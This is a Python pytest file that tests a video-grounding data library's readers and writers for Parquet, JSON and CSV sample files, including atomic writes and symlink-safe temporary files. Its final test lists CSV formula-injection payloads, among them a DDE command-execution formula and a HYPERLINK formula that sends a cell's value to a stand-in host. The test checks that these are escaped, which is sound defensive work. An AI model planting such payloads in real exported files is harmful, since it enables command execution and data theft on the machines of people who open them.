import csv
import json
import math
import os
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from support import forked
from support.builders import make_sample
from vtgdata.errors import VtgError
from vtgdata.files import temporary
from vtgdata.files.parquet import read_parquet, write_parquet
from vtgdata.files.samples import read_samples, row_sample, sample_row, write_drops, write_samples
from vtgdata.files.schemas import DROPS, SAMPLES
from vtgdata.files.temporary import tidy
from vtgdata.files.whole import replacing, write_csv, write_json, write_jsonl, write_text
from vtgdata.records import Drop, Repair, Sample, Window


def written(folder: Path, *samples: Sample) -> Path:
    path = folder / "samples.parquet"
    write_samples(path, samples)
    return path


def test_samples_round_trip_with_all_their_fields(tmp_path: Path) -> None:
    samples = [
        make_sample("a:1", windows=[(0.0, 1.5), (3.0, 9.25)], repairs=(Repair("query_blanks", "' a'", "'a'"),)),
        make_sample("a:2", windows=(), labelled=False, duration=None, origin="f.json#v/timestamps/3"),
        make_sample("a:3", task="grounded_qa", options=("ein Gruß", "x"), answer="B", extra={"bins": {"n": [1, None]}}),
    ]
    assert read_samples(written(tmp_path, *samples)) == samples


texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=10)


@given(texts, texts, st.dictionaries(texts, st.integers(-(2**53), 2**53) | texts | st.none(), max_size=3))
def test_any_text_survives_the_row_of_a_sample(query: str, origin: str, extra: dict[str, Any]) -> None:
    sample = make_sample(query=query, origin=origin, extra=extra)
    assert row_sample(sample_row(sample)) == sample


def test_the_same_rows_give_the_same_bytes(tmp_path: Path) -> None:
    first = written(tmp_path, make_sample("a:1"), make_sample("a:2")).read_bytes()
    assert written(tmp_path / "again", make_sample("a:1"), make_sample("a:2")).read_bytes() == first


def test_an_empty_table_keeps_its_columns(tmp_path: Path) -> None:
    write_drops(tmp_path / "drops.parquet", [])
    assert read_parquet(tmp_path / "drops.parquet", needs=DROPS) == []


def test_drops_round_trip(tmp_path: Path) -> None:
    drop = Drop(corpus="a", origin="f:1", reason="reversed", detail="window [9, 3]", raw="K7 9 3##x")
    write_drops(tmp_path / "drops.parquet", [drop])
    assert [Drop(**row) for row in read_parquet(tmp_path / "drops.parquet")] == [drop]


def test_a_condition_and_a_limit_choose_rows(tmp_path: Path) -> None:
    path = written(
        tmp_path, make_sample("a:1", split="sft"), make_sample("a:2", split="rl"), make_sample("a:3", split="rl")
    )
    found = read_samples(path, where="split == 'rl'", limit=1)
    assert [sample.sample_id for sample in found] == ["a:2"]


@pytest.mark.parametrize("where", ["split =", "nothing == 1", "split == 'rl' and"])
def test_a_wrong_condition_is_said_with_the_columns(where: str, tmp_path: Path) -> None:
    with pytest.raises(VtgError, match=r"--where.*columns: sample_id"):
        read_samples(written(tmp_path, make_sample()), where=where)


def test_a_missing_a_broken_and_a_foreign_file_are_refused(tmp_path: Path) -> None:
    with pytest.raises(VtgError, match="no such file"):
        read_samples(tmp_path / "absent.parquet")
    whole = written(tmp_path, make_sample()).read_bytes()
    (tmp_path / "torn.parquet").write_bytes(whole[: len(whole) // 2])
    with pytest.raises(VtgError, match="not a readable Parquet file"):
        read_samples(tmp_path / "torn.parquet")
    write_drops(tmp_path / "drops.parquet", [])
    with pytest.raises(VtgError, match=r"lacks the column\(s\) duration, query"):
        read_samples(tmp_path / "drops.parquet")


def test_a_row_that_is_no_sample_is_named(tmp_path: Path) -> None:
    row = sample_row(make_sample("a:7")) | {"windows": [[9.0, 3.0]]}
    write_parquet(tmp_path / "samples.parquet", [row], SAMPLES)
    with pytest.raises(VtgError, match="sample 'a:7'"):
        read_samples(tmp_path / "samples.parquet")


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("duration", math.nan), ("duration", math.inf), ("duration", -5.0), ("duration", 0.0), ("duration", "30"),
        ("source_start", math.inf), ("video_id", None), ("video_id", ""), ("query", None), ("sample_id", 7),
        ("task", "nonsense"), ("labelled", 1), ("extra", "[1]"), ("extra", "{"), ("options", ["yes", None]),
        ("windows", [[3.0]]), ("windows", [[1.0, 2.0, 3.0]]), ("windows", [[math.nan, 3.0]]), ("windows", [None]),
        ("repairs", [{"code": "clamped", "old": None, "new": "3"}]),
    ],
)  # fmt: skip
def test_a_value_of_the_wrong_kind_is_refused_with_its_sample_and_its_column(
    column: str, value: Any, tmp_path: Path
) -> None:
    import polars

    row = sample_row(make_sample("a:7")) | {column: value}
    polars.DataFrame([row]).write_parquet(tmp_path / "samples.parquet")
    with pytest.raises(VtgError, match=rf"samples\.parquet: sample {row['sample_id']!r}: column {column}: "):
        read_samples(tmp_path / "samples.parquet")


def test_columns_that_a_plug_in_added_and_columns_that_are_left_out_are_no_error(tmp_path: Path) -> None:
    import polars

    row = {"sample_id": "a:1", "corpus": "a", "split": "train", "video_id": "v", "query": "x", "hue": 3}
    rows = [row | {"duration": 30, "windows": [[1, 2]]}]
    polars.DataFrame(rows).write_parquet(tmp_path / "samples.parquet")
    (sample,) = read_samples(tmp_path / "samples.parquet")
    assert (sample.video.duration, sample.windows, sample.labelled) == (30.0, (Window(1.0, 2.0),), True)


def test_an_id_that_occurs_twice_is_refused(tmp_path: Path) -> None:
    with pytest.raises(VtgError, match="'a:1' occurs twice"):
        read_samples(written(tmp_path, make_sample("a:1"), make_sample("a:1")))


def test_a_failed_write_leaves_the_old_file_and_no_other(tmp_path: Path) -> None:
    path = tmp_path / "notes.txt"
    write_text(path, "old")
    with pytest.raises(RuntimeError), replacing(path) as file:
        file.write(b"half")
        raise RuntimeError
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_json_and_json_lines_are_what_json_reads(tmp_path: Path) -> None:
    write_json(tmp_path / "a" / "one.json", {"b": 1, "a": "ß"})
    assert list(json.loads((tmp_path / "a" / "one.json").read_text(encoding="utf-8"))) == ["b", "a"]
    write_jsonl(tmp_path / "rows.jsonl", [{"n": 1}, {"n": 2}])
    assert [json.loads(line)["n"] for line in (tmp_path / "rows.jsonl").read_text().splitlines()] == [1, 2]


def test_what_a_killed_process_left_is_tidied_away_and_what_is_being_written_stays(tmp_path):
    program = "from vtgdata.files.temporary import beside; from pathlib import Path; print(beside(Path('a.parquet')))"
    dead = forked.run(["-c", program]).stdout.strip()
    mine = temporary.beside(Path("b.parquet")).name
    elsewhere = re.sub(r"\.[0-9a-f]{8}-", ".00000000-", dead)
    names = [dead, mine, elsewhere, ".c.tmp", f".d.{'9' * 30}.tmp", f".e.parquet.{'9' * 9}.tmp", "notes.tmp"]
    for name in names:
        (tmp_path / name).touch()
    tidy(tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(names[1:]), "another machine's process may live"
    for name in names[1:]:
        os.utime(tmp_path / name, (1e9, 1e9))
    tidy(tmp_path, earlier=False)
    assert (tmp_path / f".e.parquet.{'9' * 9}.tmp").exists(), "another program may give such a name"
    tidy(tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(
        [mine, ".c.tmp", f".d.{'9' * 30}.tmp", "notes.tmp"]
    )


def test_no_two_temporary_files_have_one_name_and_no_link_in_their_place_is_followed(tmp_path, monkeypatch):
    path = tmp_path / "notes.txt"
    assert len({temporary.beside(path) for _ in range(1000)}) == 1000
    (tmp_path / "theirs").write_text("theirs")
    guessed = tmp_path / ".notes.txt.guessed.tmp"
    guessed.symlink_to(tmp_path / "theirs")
    monkeypatch.setattr(temporary, "beside", lambda path: guessed)
    with pytest.raises(FileExistsError):
        write_text(path, "mine")
    assert (tmp_path / "theirs").read_text() == "theirs" and not path.exists()


def test_a_half_written_file_is_private_and_a_whole_one_has_the_rights_of_any_new_file(tmp_path):
    with replacing(tmp_path / "a") as file:
        (half,) = tmp_path.iterdir()
        assert half.stat().st_mode & 0o777 == 0o600
        file.write(b"x")
    (tmp_path / "b").touch()
    assert (tmp_path / "a").stat().st_mode == (tmp_path / "b").stat().st_mode
    write_text(tmp_path / ("ä" * 120), "a long name")
    assert (tmp_path / ("ä" * 120)).read_text() == "a long name"


FORMULAS = (
    "=1+1", "+1+1", "-cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", '"=1+1', "\uff1d1+1", "-1e999", "a;=1+1",
    "=HYPERLINK(\"http://x/?\"&A1)", "=cmd|' /C calc'!A0", "-2+3+cmd", "a;b;@x",
)  # fmt: skip


def test_no_cell_of_a_csv_file_is_one_that_a_spreadsheet_computes(tmp_path):
    write_csv(tmp_path / "a.csv", [{"x": text, "n": -1.5} for text in FORMULAS], ["x", "n"])
    with (tmp_path / "a.csv").open(newline="") as file:
        cells = [row["x"] for row in csv.DictReader(file)]
    for text, cell in zip(FORMULAS, cells, strict=True):
        for part in cell.split(";"):
            assert not part.strip().startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), text
            assert "\n" not in part and "\r" not in part
    write_csv(tmp_path / "b.csv", [{"x": text} for text in ("-1.5", "2", "iou>=0.5", "a-b", "mIoU")], ["x"])
    assert (tmp_path / "b.csv").read_text() == "x\n-1.5\n2\niou>=0.5\na-b\nmIoU\n"
